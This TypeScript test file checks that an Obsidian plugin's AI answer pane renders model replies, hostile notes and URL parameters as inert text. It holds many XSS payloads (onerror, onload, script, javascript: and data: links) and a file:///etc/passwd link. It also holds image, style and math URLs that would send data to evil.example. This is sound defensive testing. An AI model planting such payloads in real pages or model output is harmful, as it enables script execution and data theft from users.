// Cases 31 and 33: what a model or a note says is shown, never run, never loaded, never sent to a stranger.
import { expect, test } from "vitest";
import type { Page } from "playwright-core";
import { useBench } from "../bench/bench";
import { HOSTILE } from "../bench/notes";
import type { Obsidian } from "../bench/obsidian";
import { NOTE, Pane } from "../bench/pane";

const bench = useBench();

/** The reply of case 31, and what else an answer could carry. */
const REPLIES: Record<string, [reply: string, visible: string[]]> = {
  "the reply of case 31": [
    "<svg/onload=window.PWN=6> [a](data:text/html,<script>window.PWN=7</script>) ```html\n<img src=x onerror=window.PWN=8>\n```",
    ["svg/onload", "img src=x"],
  ],
  "markup that runs": [
    'one <img src=x onerror="window.PWN=1"> two <script>window.PWN=2</script>\n\n<iframe srcdoc="<script>parent.PWN=3</script>"></iframe>\n\n<details open ontoggle=window.PWN=4>three</details>',
    ["one", "two", "three"],
  ],
  "markup over several lines": [
    "before <img\nsrc=x\nonerror=window.PWN=1> after\n\n<!-- \n\n--> <b onmouseover=window.PWN=2>bold</b>",
    ["before", "after", "bold"],
  ],
  "a picture that carries words to a stranger": [
    "a ![x](https://evil.example/p?q=potatoes) b <img src=https://evil.example/i> c ![[https://evil.example/e.png]] d ![x][ref]\n\n[ref]: https://evil.example/r\n",
    ["a", "b", "c", "d"],
  ],
  "code that other plugins run": [
    "before\n\n```dataviewjs\nwindow.PWN=1\n```\n\n~~~~ dataview\nlist\n~~~~\n\n````Templater\n<% window.PWN %>\n````\n\n- ```dataviewjs\n  1\n  ```\n\n> ```tasks\n> x\n> ```\n\n`$= window.PWN` and `= this.file` and ``$= 1`` <%* window.PWN=2 %> after",
    ["before", "window.PWN=1", "this.file", "after"],
  ],
  "drawings and queries of Obsidian itself": [
    "before\n\n```query\npotatoes\n```\n\n```mermaid\ngraph TD\n```\n\nafter",
    ["before", "potatoes", "after"],
  ],
  "transclusion of notes": [
    "before ![[Personal/Therapy]] mid ![[Welcome#Questions to try|x]] after",
    ["before", "mid", "after"],
  ],
  "links that run": [
    "[one](javascript:window.PWN=1) [two](data:text/html,x) [[javascript:window.PWN=3|three]] <javascript:window.PWN=4> [five][j] [six](vbscript:x) [seven](obsidian://open?vault=x) [eight](file:///etc/passwd)\n\n[j]: javascript:window.PWN=5\n",
    ["one", "two", "three", "five", "six", "seven", "eight"],
  ],
  "mathematics that carries addresses": [
    "before $\\href{javascript:window.PWN=1}{x}$ and $$\\href{https://evil.example/m}{y}\\style{background:url(https://evil.example/s)}{z}$$ after",
    ["before", "after"],
  ],
  "styles that load": [
    'before <div style="background:url(https://evil.example/s)">in</div> <link rel=stylesheet href=https://evil.example/c> <style>@import "https://evil.example/t";</style> after',
    ["before", "in", "after"],
  ],
  "words that Obsidian would hide": [
    "before %%hidden%% after\n\n---\nsecret: yes\n---\n\nend",
    ["before", "hidden", "after", "end"],
  ],
};

/** Nothing ran, nothing was asked of a stranger, nothing executable or clickable stands on the page. */
async function expectHarmless(app: Obsidian, page: Page): Promise<void> {
  expect(await page.evaluate(() => window.PWN)).toBeUndefined();
  expect(await page.evaluate(() => window.bench.ran)).toEqual([]);
  expect(app.foreign).toEqual([]);
  const bad = await page.evaluate(() => {
    const root = document.querySelector(".vault-ask-view");
    return [...(root?.querySelectorAll("*") ?? [])]
      .filter((el) => {
        const runs = el.getAttributeNames().some((name) => name.startsWith("on") || name === "srcdoc");
        const loads = el.matches(
          "img, picture, video, audio, iframe, object, embed, link, script, style, form, base, meta, .internal-embed",
        );
        const leads =
          el.matches("a, area") && /^(?!https?:|#)[a-z][a-z0-9+.-]*:/i.test((el.getAttribute("href") ?? "").trim());
        return runs || loads || leads;
      })
      .map((el) => el.outerHTML.slice(0, 200));
  });
  expect(bad).toEqual([]);
}

/** Whether the daemon, which checks and mends what models say, stands between; a foreign daemon would not. */
const WAYS = ["from a model", "from the daemon itself"] as const;

test.each(Object.entries(REPLIES).flatMap(([name, said]) => WAYS.map((way) => ({ name, way, said }))))(
  "$name, $way, is words",
  async ({ way, said: [reply, visible] }) => {
    const app = await bench.obsidian();
    // One after the other, so that every half of it is drawn on its way, too.
    if (way === "from a model") bench.model.script(reply.match(/[\s\S]{1,3}/g) ?? []);
    else await app.answerWith(reply);
    const pane = await Pane.open(app.page);
    await pane.ask();
    const answer = pane.last(".vault-ask-answer");
    await answer.filter({ hasText: visible.at(-1) ?? "" }).waitFor();
    const text = await answer.evaluate((el: HTMLElement) => el.innerText);
    for (const words of visible) expect(text).toContain(words);
    for (const link of await answer.locator("a:visible").all()) {
      if (!/^https?:/.test((await link.getAttribute("href")) ?? "")) await link.click();
    }
    await expectHarmless(app, app.page);
    expect(await app.page.evaluate(() => window.bench.app.workspace.benchOpened.filter((one) => one.created))).toEqual(
      [],
    );
  },
);

test("a hostile note is quoted as words in the answer, the sources, the peek and the notes nearby", async () => {
  const app = await bench.obsidian();
  const { page } = app;
  bench.model.script(["It was seven baskets [1]. ", "> before <img src=x onerror=window.PWN=1> harvest"]);
  const pane = await Pane.open(page, NOTE);
  await pane.ask("What was the quibblewort harvest?");
  const source = pane.last('.vault-ask-source[data-n="1"]');
  expect(await source.textContent()).toContain('<img src=x onerror="window.PWN=1">');
  const chip = pane.last("a.vault-ask-chip").first();
  // Obsidian's own page preview shows the note as Obsidian shows notes, which is not ours to answer for.
  await page.evaluate(() => window.bench.app.workspace.benchSources.clear());
  await chip.hover();
  await page.locator(".vault-ask-peek:visible").filter({ hasText: "seven baskets" }).waitFor();
  await page.mouse.move(5, 5);
  await expectHarmless(app, page);
  await chip.click();
  expect((await pane.opened(1))[0]).toMatchObject({ path: HOSTILE, created: false });
  await page.evaluate(() => window.bench.command("vault-ask:ask-about-note"));
  await page.locator(".vault-ask-note-chip").filter({ hasText: "<b onmouseover" }).waitFor();
  await expectHarmless(app, page);
});

test("markup in a question, an address and an error is words as well", async () => {
  const app = await bench.obsidian();
  const { page } = app;
  bench.model.script([{ status: 500 }]);
  const pane = await Pane.open(page);
  const markup = '<img src=x onerror="window.PWN=1"><script>window.PWN=2</script>';
  await page.evaluate(
    (words) => window.bench.protocol(`obsidian://vault-ask?${new URLSearchParams({ question: words, note: words })}`),
    markup,
  );
  await page.waitForFunction(
    (words) => document.querySelector<HTMLTextAreaElement>(".vault-ask-composer textarea")?.value === words,
    markup,
  );
  await pane.box.press("Enter");
  await pane.reached("failed");
  expect(await pane.last(".vault-ask-question").textContent()).toContain(markup);
  await pane.startNew();
  await page.locator("[aria-label='Earlier questions']").first().click();
  await page.locator(".vault-ask-history").filter({ hasText: "<script>" }).waitFor();
  await expectHarmless(app, page);
});

test("nothing that the daemon was asked for left to anybody else in a whole conversation", async () => {
  const app = await bench.obsidian();
  const hosts = new Set<string>();
  app.page.on("request", (request) => hosts.add(new URL(request.url()).host));
  bench.model.script(["See https://evil.example/x and ![p](https://evil.example/y) [1]."]);
  const pane = await Pane.open(app.page);
  await pane.ask();
  await pane.last("a.vault-ask-chip").first().hover();
  await app.page.locator(".vault-ask-related-note").count();
  await expectHarmless(app, app.page);
  expect([...hosts]).toEqual([new URL(bench.daemon.address).host]);
});
